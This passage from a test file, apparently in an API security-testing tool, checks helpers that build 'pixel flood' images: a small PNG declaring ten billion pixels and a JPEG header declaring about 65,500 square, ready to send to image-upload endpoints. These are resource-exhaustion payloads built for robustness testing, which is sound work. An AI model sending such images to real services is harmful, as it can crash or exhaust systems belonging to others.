  it('are well-formed images that declare billions of pixels (ready for image uploads)', () => {
    const flood = png(100_000, 100_000, 1);
    expect(pngSize(flood)).toEqual({ width: 100_000, height: 100_000 });
    expect(flood.length).toBeLessThan(2 * mb);
    expect(pngSize(png(2, 2))).toEqual({ width: 2, height: 2 });
    const jpeg = jpegHeader(65_500, 65_500);
    expect(jpeg.readUInt16BE(7)).toBe(65_500);
    expect(jpeg.readUInt16BE(9)).toBe(65_500);
    // Today no operation takes images: this says so in the run's report until one does.
    const imageOps = uploadOperations.filter((op) =>
      op.body!.contentTypes.some((type) => familyOf(type) === 'image'),
    );
    report(
      `uploads: ${imageOps.length} operations take images; pixel floods ${imageOps.length ? 'sent' : 'ready'}`,
    );
  });
});
